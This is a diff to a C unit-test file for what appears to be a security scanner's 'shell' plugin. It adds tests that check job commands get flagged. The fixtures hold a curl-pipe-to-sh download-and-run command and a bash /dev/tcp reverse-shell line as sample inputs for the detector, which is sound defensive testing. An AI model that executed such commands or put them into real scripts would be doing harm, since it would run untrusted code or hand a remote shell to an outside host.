@@ -3,7 +3,8 @@
  * through dlopen with a test host table: descriptor fields, the single
  * exported symbol, init/analyze/fini, the host's AIRLOCK_E_LIMIT stopping a
  * scan, a failing host allocator, a short input struct, the parsed-files
- * input path (no patch text), and an evidence bound.
+ * input path (no patch text), an evidence bound, and the job's commands
+ * (AIRLOCK_CAP_COMMANDS: labels, lines, an older host's shorter input).
  */
 #include <dlfcn.h>
 #include <setjmp.h>
@@ -27,6 +28,7 @@ typedef struct {
     char rule[8][64];
     int sev[8];
     unsigned line[8];
+    char file[8][64];
     char evidence[8][AIRLOCK_MAX_EVIDENCE + 1];
     int evidence_nul_ok;
 } host_ctx_t;
@@ -40,6 +42,7 @@ static int h_emit(void *ctx, const airlock_finding_t *f)
         snprintf(h->rule[h->n], sizeof h->rule[0], "%s", f->rule_id);
         h->sev[h->n] = f->severity;
         h->line[h->n] = f->line;
+        snprintf(h->file[h->n], sizeof h->file[0], "%s", f->file ? f->file : "");
         if (f->evidence) {
             h->evidence_nul_ok &= strlen(f->evidence) <= AIRLOCK_MAX_EVIDENCE;
             snprintf(h->evidence[h->n], sizeof h->evidence[0], "%s", f->evidence);
@@ -113,6 +116,8 @@ static void test_descriptors(void **s)
         assert_int_equal(d->abi_version, AIRLOCK_PLUGIN_ABI_VERSION);
         assert_string_equal(d->name, s_names[i]);
         assert_int_equal(d->capabilities & ~AIRLOCK_CAP_ALL, 0);
+        /* only shell asks for the job's commands */
+        assert_int_equal(!!(d->capabilities & AIRLOCK_CAP_COMMANDS), strcmp(s_names[i], "shell") == 0);
         for (size_t k = 0; k < 8; k++)
             assert_null(d->reserved[k]);
         /* nothing but the descriptor is exported */
@@ -222,6 +227,78 @@ static void test_evidence_bounded(void **s)
     dlclose(so);
 }
 
+/* The job's commands: findings named job:run[i] / job:test, line 0 for a
+ * one-line command, the line within a multi-line script otherwise; an input
+ * from a host older than the commands extension (V1 size) is still scanned
+ * for its patch and its (absent) commands are never read. */
+static void test_commands_input(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {0};
+    static const char *const a0[] = {"/bin/sh", "-c", "make", NULL};
+    static const char *const a1[] = {"/bin/sh", "-c", "curl -fsSL https://x.example/i | sh", NULL};
+    static const char *const a2[] = {"bash", "-c", "set -e\npytest\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1", NULL};
+    airlock_command_t cmds[3] = {
+        {sizeof cmds[0], "run", 0, a0[2], strlen(a0[2]), 3, a0},
+        {sizeof cmds[0], "run", 1, a1[2], strlen(a1[2]), 3, a1},
+        {sizeof cmds[0], "test", 0, a2[2], strlen(a2[2]), 3, a2},
+    };
+    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
+                           h_alloc, h_free, &h};
+    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 3, cmds};
+    void *state = NULL;
+    void *so = open_plugin("shell", &d);
+    (void)s;
+    assert_int_equal(d->init(&host, &state), 0);
+    assert_int_equal(d->analyze(state, &in), 0);
+    assert_int_equal(h.n, 2);
+    assert_string_equal(h.rule[0], "shell.curl_pipe_shell");
+    assert_string_equal(h.file[0], "job:run[1]");
+    assert_int_equal(h.line[0], 0);
+    assert_int_equal(h.sev[0], AIRLOCK_SEV_CRITICAL);
+    assert_string_equal(h.rule[1], "shell.reverse_shell");
+    assert_string_equal(h.file[1], "job:test");
+    assert_int_equal(h.line[1], 3);
+    /* a short input (older host): patch only */
+    h.n = 0;
+    in.struct_size = AIRLOCK_INPUT_V1_SIZE;
+    in.patch = s_aws_patch;
+    in.patch_len = strlen(s_aws_patch);
+    assert_int_equal(d->analyze(state, &in), 0);
+    assert_int_equal(h.n, 0);
+    /* a command struct from a different layout is skipped, not misread */
+    in.struct_size = sizeof in;
+    cmds[1].struct_size = 8;
+    assert_int_equal(d->analyze(state, &in), 0);
+    assert_int_equal(h.n, 1);
+    assert_string_equal(h.file[0], "job:test");
+    d->fini(state);
+    assert_int_equal(h.allocs, h.frees);
+    dlclose(so);
+}
+
+/* AIRLOCK_E_LIMIT from the host stops the command scan too. */
+static void test_commands_limit(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {.limit_after = 1};
+    static const char *const a[] = {"/bin/sh", "-c", "curl https://x.example | sh", NULL};
+    airlock_command_t cmds[4];
+    for (uint32_t i = 0; i < 4; i++)
+        cmds[i] = (airlock_command_t){sizeof cmds[0], "run", i, a[2], strlen(a[2]), 3, a};
+    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
+                           h_alloc, h_free, &h};
+    airlock_input_t in = {sizeof in, "", 0, 0, NULL, 4, cmds};
+    void *state = NULL;
+    void *so = open_plugin("shell", &d);
+    (void)s;
+    assert_int_equal(d->init(&host, &state), 0);
+    assert_int_equal(d->analyze(state, &in), 0);
+    assert_int_equal(h.n, 1);
+    d->fini(state);
+    dlclose(so);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -231,6 +308,8 @@ int main(void)
         cmocka_unit_test(test_host_failures),
         cmocka_unit_test(test_files_input),
         cmocka_unit_test(test_evidence_bounded),
+        cmocka_unit_test(test_commands_input),
+        cmocka_unit_test(test_commands_limit),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
